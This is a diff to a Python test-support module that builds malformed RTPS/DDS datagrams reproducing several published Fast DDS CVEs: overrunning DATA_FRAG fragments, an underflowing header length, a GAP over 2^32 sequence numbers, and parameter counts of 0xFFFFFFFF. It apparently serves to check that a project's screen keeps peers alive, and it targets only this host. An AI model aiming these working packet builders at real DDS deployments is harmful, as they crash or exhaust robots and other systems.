@@ -23,10 +23,12 @@ test in eProsima/Fast-DDS: which submessage, which field, which values), not fro
                   DATA(w)/DATA(r) parameter drive push_back loops, bounded by nothing:
                   PID_DATA_REPRESENTATION's count and PID_DATASHARING's number of domains.
 
-Every flaw but CVE-2026-49861's in the reader of a writer Fast DDS has matched, so each attack first
-announces a made-up participant (one SPDP DATA(p), tests/support/dds_attacks.py) and then speaks as
-that participant's built-in writers. Only this host is ever a target: unicast to 127.0.0.1, and the
-discovery multicast group with a TTL of 0 (delivered to this host's members, never sent on a link).
+Each flaw is in a reader, for a writer Fast DDS has matched: each attack first announces a made-up
+participant (one SPDP DATA(p), tests/support/dds_attacks.py), then speaks as that participant's
+built-in writers (the SPDP and SEDP readers of every participant of the domain), or announces a
+writer of robot_state and speaks as it (every reader of the topic, as upstream's regression tests
+do). Only this host is ever a target: unicast to 127.0.0.1, and the discovery multicast group with a
+TTL of 0 (delivered to this host's members, never sent on a link).
 """
 
 import random
@@ -41,6 +43,10 @@ SPDP_WRITER = bytes.fromhex("000100c2")
 SPDP_READER = bytes.fromhex("000100c7")
 SEDP_PUBLICATIONS_WRITER = bytes.fromhex("000003c2")
 SEDP_PUBLICATIONS_READER = bytes.fromhex("000003c7")
+ENTITYID_UNKNOWN = bytes(4)  # as a reader id: every reader that has the writer matched
+USER_WRITER = bytes.fromhex("00000103")  # the made-up participant's writer of robot_state (0x03: no key)
+
+WAYS = ("unicast", "multicast")
 
 DATA_FRAG = 0x16
 GAP = 0x08
@@ -83,12 +89,13 @@ def _string(text):
     return struct.pack("<I", len(raw)) + raw
 
 
-def publication(guid_prefix, sn, count_parameter):
-    """A DATA(w): the made-up participant's writer of robot_state, whose parameter list carries
-    `count_parameter` (PID and value) before its GUID, topic and type."""
+def publication(guid_prefix, sn, parameters):
+    """A DATA(w): the made-up participant's writer USER_WRITER of robot_state (type rsg::RobotState),
+    whose parameter list carries `parameters` ((PID, value) pairs) before its GUID, topic and type."""
     payload = b"\x00\x03\x00\x00"  # PL_CDR_LE
-    payload += _parameter(*count_parameter)
-    payload += _parameter(0x005A, guid_prefix + bytes.fromhex("00000102"))   # PID_ENDPOINT_GUID
+    for pid, value in parameters:
+        payload += _parameter(pid, value)
+    payload += _parameter(0x005A, guid_prefix + USER_WRITER)                  # PID_ENDPOINT_GUID
     payload += _parameter(0x0050, guid_prefix + bytes.fromhex("000001c1"))   # PID_PARTICIPANT_GUID
     payload += _parameter(0x0005, _string("robot_state"))                      # PID_TOPIC_NAME
     payload += _parameter(0x0007, _string("rsg::RobotState"))                  # PID_TYPE_NAME
@@ -98,86 +105,114 @@ def publication(guid_prefix, sn, count_parameter):
     return _message(guid_prefix, bytes([0x15, 0x05]) + struct.pack("<H", len(body)) + body)
 
 
-# Each builder: (guid prefix of the made-up participant, rng) -> the datagrams after its announcement.
+# A reliable writer (PID_RELIABILITY: RELIABLE, max_blocking_time 0.1 s): every reader of the topic
+# matches it, reliable or best effort.
+RELIABLE = (0x001A, struct.pack("<iiI", 2, 0, 0x1999999A))
 
-def cve_2025_62799(prefix, _rng):
+
+# Each builder: (guid prefix of the made-up participant, reader, writer, first sequence number) ->
+# the datagrams that follow its announcement.
+
+def cve_2025_62799(prefix, reader, writer, sn):
     """Fragment 2 (the last, 1 byte) of samples of F + 1 bytes in fragments of F: the index of the
     last fragment goes at F rounded up to 4, past the sample. Fast DDS 2.9 keeps a payload 12 bytes
     after the start of its heap block (TopicPayloadPool's NodeInfo); for F = 9, 10 or 11 (mod 16)
     malloc leaves no slack after F + 1 + 12 bytes, and the index lands on the size of the heap chunk
     that follows. Three of them, each larger than the one before, so that the buffer is reallocated
     over the damage."""
-    return [data_frag(prefix, sn, 2, 1, size, size + 1, b"\xaa")
-            for sn, size in ((2, 50009), (3, 60010), (4, 64011))]
+    return [data_frag(prefix, sn + i, 2, 1, size, size + 1, b"\xaa", reader=reader, writer=writer)
+            for i, size in enumerate((50009, 60010, 64011))]
 
 
-def cve_2025_65865(prefix, _rng):
+def cve_2025_65865(prefix, reader, writer, sn):
     """DATA_FRAGs whose octetsToNextHeader (28) is smaller than their own header (32), so that the
     payload length Fast DDS computes wraps to 2^32 - 4: each claims fragments 1 to 1,000 of 65,000
     bytes (not the last: the sample is 1,001 fragments long) and holds none. Three of them."""
-    return [data_frag(prefix, sn, 1, 1000, 65000, 65000 * 1001, b"", length=DATA_FRAG_HEADER - 4)
-            for sn in (2, 3, 4)]
+    return [data_frag(prefix, sn + i, 1, 1000, 65000, 65000 * 1001, b"", length=DATA_FRAG_HEADER - 4,
+                      reader=reader, writer=writer) for i in range(3)]
 
 
-def cve_2026_22590(prefix, _rng):
+def cve_2026_22590(prefix, reader, writer, sn):
     """Fragments 1 to 1,000 of 65,000 bytes (the whole sample, the last one included) with 4 bytes of
-    data: the last fragment's length is taken from the sample, not from what arrived."""
-    return [data_frag(prefix, sn, 1, 1000, 65000, 65000 * 1000, b"\xa0\xa1\xa2\xa3") for sn in (2, 3, 4)]
+    data: the last fragment's length is taken from the sample, not from what arrived. Three of them."""
+    return [data_frag(prefix, sn + i, 1, 1000, 65000, 65000 * 1000, b"\xa0\xa1\xa2\xa3", reader=reader,
+                      writer=writer) for i in range(3)]
 
 
-def cve_2025_64438(prefix, _rng):
+def cve_2025_64438(prefix, reader, writer, _sn):
     """A GAP from the made-up participant's publications writer to the built-in publications reader,
     from sequence number 10 (upstream's; 1 to 9 never arrived, so none of these is the next one
     expected and each is kept) to 10 + 2^32: 2^32 sequence numbers declared irrelevant, one by one."""
-    return [gap(prefix, 10, 10 + (1 << 32))]
+    return [gap(prefix, 10, 10 + (1 << 32), reader=reader, writer=writer)]
 
 
-def cve_2026_49861(prefix, _rng):
+def cve_2026_49861(prefix, _reader, _writer, sn):
     """Two DATA(w): one whose PID_DATA_REPRESENTATION says 0xFFFFFFFF representations and holds one,
     one (the next sequence number) whose PID_DATASHARING says 0xFFFFFFFF domains and holds one."""
     representation = (0x0073, struct.pack("<Ih", 0xFFFFFFFF, 1))
     data_sharing = (0x8006, struct.pack("<IQ", 0xFFFFFFFF, 1))
-    return [publication(prefix, 1, representation), publication(prefix, 2, data_sharing)]
+    return [publication(prefix, sn, [representation]), publication(prefix, sn + 1, [data_sharing])]
 
 
 class Flaw:
-    def __init__(self, cve, what, kind, build):
-        self.cve, self.what, self.kind, self.build = cve, what, kind, build
+    """One published flaw sent to one kind of reader: `target` "spdp" (the built-in participant
+    reader, as the participant's own SPDP writer), "sedp" (the built-in publications reader, as its
+    publications writer) or "user" (every reader of robot_state, as a writer of robot_state the
+    made-up participant announced first: upstream's regression tests' target). A user reader listens
+    on unicast ports only, so `ways` is unicast alone for those."""
 
-    def datagrams(self, domain, rng, listen_port):
-        """The made-up participant's announcement (metatraffic on 127.0.0.1:`listen_port`, where nothing
-        need listen), then the attack's datagrams."""
+    def __init__(self, cve, what, kind, build, target):
+        self.cve, self.what, self.kind, self.build, self.target = cve, what, kind, build, target
+        self.ways = ("unicast",) if target == "user" else WAYS
+        self.name = f"{cve} to a user reader" if target == "user" else cve
+
+    def stages(self, domain, rng, listen_port):
+        """The datagrams, in stages sent with a pause between them: the made-up participant's
+        announcement (metatraffic on 127.0.0.1:`listen_port`, where nothing need listen), for a user
+        reader its writer's DATA(w), then the attack."""
         prefix = rng.randbytes(12)
-        return [participant_announcement(domain, prefix, listen_port)] + self.build(prefix, rng)
+        stages = [[participant_announcement(domain, prefix, listen_port)]]
+        if self.target == "spdp":
+            stages.append(self.build(prefix, SPDP_READER, SPDP_WRITER, 2))
+        elif self.target == "sedp":
+            stages.append(self.build(prefix, SEDP_PUBLICATIONS_READER, SEDP_PUBLICATIONS_WRITER, 1))
+        else:
+            stages.append([publication(prefix, 1, [RELIABLE])])
+            stages.append(self.build(prefix, ENTITYID_UNKNOWN, USER_WRITER, 1))
+        return stages
 
 
 # kind: what the flaw did to Fast DDS 2.9.1 as Debian 12 builds it, without rsg's screen (issue 46):
-# "crash" (a signal), "spin" (a thread at 100 % and memory growing), "growth" (memory growing).
+# "crash" (a signal), "spin" (a thread at 100 % and memory growing), "growth" (memory growing), or
+# "bounded": nothing to a reader of robot_state, whose type is bounded, so that Fast DDS gives its
+# reader a preallocated history of payloads of the type's largest size (2,159 bytes) and refuses a
+# larger sample at its first fragment ("cannot be resized"); sent for the screen, which must refuse
+# them on user traffic too.
 FLAWS = [
     Flaw("CVE-2025-62799", "DATA_FRAG whose last fragment runs past the sample (heap overflow)", "crash",
-         cve_2025_62799),
-    Flaw("CVE-2025-65865", "DATA_FRAG octetsToNextHeader smaller than its header (underflow), 1000 fragments", "crash",
-         cve_2025_65865),
-    Flaw("CVE-2026-22590", "DATA_FRAG fragments 1..1000 with 4 bytes of data", "crash", cve_2026_22590),
+         cve_2025_62799, "spdp"),
+    Flaw("CVE-2025-65865", "DATA_FRAG octetsToNextHeader smaller than its header (underflow), 1000 fragments",
+         "crash", cve_2025_65865, "spdp"),
+    Flaw("CVE-2026-22590", "DATA_FRAG fragments 1..1000 with 4 bytes of data", "crash", cve_2026_22590, "spdp"),
     Flaw("CVE-2025-64438", "GAP over 2^32 sequence numbers to the SEDP publications reader", "spin",
-         cve_2025_64438),
+         cve_2025_64438, "sedp"),
     Flaw("CVE-2026-49861", "DATA(w) with a DATA_REPRESENTATION / DATASHARING count of 0xFFFFFFFF", "growth",
-         cve_2026_49861),
+         cve_2026_49861, "sedp"),
+    Flaw("CVE-2025-62799", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2025_62799, "user"),
+    Flaw("CVE-2025-65865", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2025_65865, "user"),
+    Flaw("CVE-2026-22590", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2026_22590, "user"),
 ]
-
-WAYS = ("unicast", "multicast")
-
 
 def discovery_group(domain):
     """The SPDP multicast locator of `domain` (RTPS 2.x, 9.6.1.4.1: 239.255.0.1, 7400 + 250 × domain)."""
     return ("239.255.0.1", 7400 + 250 * domain)
 
 
-def send(datagrams, way, domain, ports=None, pause_s=0.05):
-    """The first datagram (the announcement), a pause for the victims to take the made-up participant
-    in, then the others: `unicast` to each of `ports` (default: every port of the domain bound on this
-    host) on 127.0.0.1, `multicast` to the domain's discovery group, looped back to this host's members
-    and never sent on a link (TTL 0). At most about 20,000 datagrams a second."""
+def send(stages, way, domain, ports=None, pause_s=0.1):
+    """The stages of datagrams, with `pause_s` between them for the victims to take in the made-up
+    participant and its writer: `unicast` to each of `ports` (default: every port of the domain bound
+    on this host) on 127.0.0.1, `multicast` to the domain's discovery group, looped back to this
+    host's members and never sent on a link (TTL 0). At most about 20,000 datagrams a second."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
         sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
         sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
@@ -185,21 +220,22 @@ def send(datagrams, way, domain, ports=None, pause_s=0.05):
             targets = [("127.0.0.1", port) for port in (ports if ports is not None else domain_ports(domain))]
         else:
             targets = [discovery_group(domain)]
-        for index, datagram in enumerate(datagrams):
-            for target in targets:
-                sender.sendto(datagram, target)
-            if index == 0:
+        for number, stage in enumerate(stages):
+            if number:
                 time.sleep(pause_s)
-            elif index % 200 == 0:
-                time.sleep(0.01)
+            for index, datagram in enumerate(stage):
+                for target in targets:
+                    sender.sendto(datagram, target)
+                if index % 200 == 199:
+                    time.sleep(0.01)
 
 
 def attack(flaw, way, domain, ports=None, seed=46):
     """Sends `flaw` one `way` as a made-up participant of its own; returns the number of datagrams."""
-    rng = random.Random(f"{seed}/{flaw.cve}/{way}")
-    datagrams = flaw.datagrams(domain, rng, 40000 + rng.randrange(1000) * 2)
-    send(datagrams, way, domain, ports)
-    return len(datagrams)
+    rng = random.Random(f"{seed}/{flaw.name}/{way}")
+    stages = flaw.stages(domain, rng, 40000 + rng.randrange(1000) * 2)
+    send(stages, way, domain, ports)
+    return sum(len(stage) for stage in stages)
 
 
 def attack_every(domain, alive, pause_s=0.2):
@@ -207,8 +243,8 @@ def attack_every(domain, alive, pause_s=0.2):
     crash to come, then `alive(what)`, which raises when the victim died. Returns the datagrams sent."""
     sent = 0
     for flaw in FLAWS:
-        for way in WAYS:
+        for way in flaw.ways:
             sent += attack(flaw, way, domain)
             time.sleep(pause_s)
-            alive(f"{flaw.cve} sent {way}")
+            alive(f"{flaw.name} sent {way}")
     return sent
